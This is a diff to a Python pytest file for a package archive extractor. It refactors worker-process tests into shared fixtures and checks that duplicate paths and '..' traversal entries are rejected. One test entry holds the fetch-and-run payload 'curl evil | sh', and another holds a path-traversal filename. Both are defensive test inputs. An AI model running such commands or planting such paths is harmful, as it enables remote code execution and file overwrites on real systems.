@@ -11,6 +11,7 @@ import tarfile
 from pathlib import Path
 
 import pytest
+from conftest import kill_a_worker, needs_two_cores
 from ghfixtures import Entry, cut_archive, directory, raw_reg, reg, special, tarball
 
 from metapkg.fetch import archive
@@ -302,7 +303,8 @@ def test_the_same_path_twice_is_an_archive_error(tmp_path: Path) -> None:
     _rejected(tmp_path, [reg("a.md", b"harmless"), reg("a.md", b"curl evil | sh")])
 
 
-@pytest.mark.skipif((os.cpu_count() or 1) < 2, reason="no worker on one core")
+@needs_two_cores
+@pytest.mark.usefixtures("no_workers")
 def test_an_archive_arriving_during_another_extraction_is_extracted_by_a_worker_process(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -317,52 +319,39 @@ def test_an_archive_arriving_during_another_extraction_is_extracted_by_a_worker_
     there.mkdir()
     (tmp_path / "a").mkdir()
     expected = extract(_write(tmp_path / "a", good), here, SOURCE)
-    workers.shutdown()  # none left by an in-process install of another test
     monkeypatch.setattr(unpack, "_running", 1)  # another extraction is under way
-    try:
-        assert unpack.extract(_write(tmp_path / "a", good), there, SOURCE) == expected
-        assert workers._pool is not None  # it went to the worker
-        assert _files(there) == _files(here)
-        assert os.stat(there / "run.sh").st_mode & 0o111
-        bad = [reg("skills/../../evil.txt", b"x")]
-        (tmp_path / "b").mkdir()
-        with pytest.raises(ArchiveError) as caught:
-            unpack.extract(_write(tmp_path / "b", bad), tmp_path / "b", SOURCE)
-        (diagnostic,) = caught.value.diagnostics
-        assert diagnostic.rule == "archive" and "'..' in the path" in diagnostic.message
-    finally:
-        workers.shutdown()
+    assert unpack.extract(_write(tmp_path / "a", good), there, SOURCE) == expected
+    assert workers.running()  # it went to the worker
+    assert _files(there) == _files(here)
+    assert os.stat(there / "run.sh").st_mode & 0o111
+    bad = [reg("skills/../../evil.txt", b"x")]
+    (tmp_path / "b").mkdir()
+    with pytest.raises(ArchiveError) as caught:
+        unpack.extract(_write(tmp_path / "b", bad), tmp_path / "b", SOURCE)
+    (diagnostic,) = caught.value.diagnostics
+    assert diagnostic.rule == "archive" and "'..' in the path" in diagnostic.message
 
 
-@pytest.mark.skipif((os.cpu_count() or 1) < 2, reason="no worker on one core")
+@needs_two_cores
+@pytest.mark.usefixtures("no_workers")
 def test_a_worker_that_dies_costs_only_the_second_core(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     # A worker killed mid-extraction (out of memory, say): the archive is extracted in
     # the install's own process instead, from an emptied folder.
-    import signal
-
-    from metapkg import workers
     from metapkg.fetch import unpack
 
     monkeypatch.setattr(unpack, "_running", 1)
-    pool = workers.pool()
-    assert pool is not None
-    try:
-        pids = {pool.submit(os.getpid).result()}
-        for pid in pids:
-            os.kill(pid, signal.SIGKILL)
-        destination = tmp_path / "out"
-        destination.mkdir()
-        (destination / "left-over").mkdir()
-        (destination / "left-over" / "half.txt").write_text("x")
-        os.chmod(destination / "left-over" / "half.txt", 0o444)
-        entries = [reg("skills/alpha/SKILL.md", b"---\nname: alpha\n---\n")]
-        record = unpack.extract(_write(tmp_path, entries), destination, SOURCE)
-        assert list(record) == ["skills/alpha/SKILL.md"]
-        assert _files(destination) == {"skills/alpha/SKILL.md": b"---\nname: alpha\n---\n"}
-    finally:
-        workers.shutdown()
+    kill_a_worker()
+    destination = tmp_path / "out"
+    destination.mkdir()
+    (destination / "left-over").mkdir()
+    (destination / "left-over" / "half.txt").write_text("x")
+    os.chmod(destination / "left-over" / "half.txt", 0o444)
+    entries = [reg("skills/alpha/SKILL.md", b"---\nname: alpha\n---\n")]
+    record = unpack.extract(_write(tmp_path, entries), destination, SOURCE)
+    assert list(record) == ["skills/alpha/SKILL.md"]
+    assert _files(destination) == {"skills/alpha/SKILL.md": b"---\nname: alpha\n---\n"}
 
 
 def test_the_records_entries_under_a_package_path_are_exactly_its_own(tmp_path: Path) -> None:
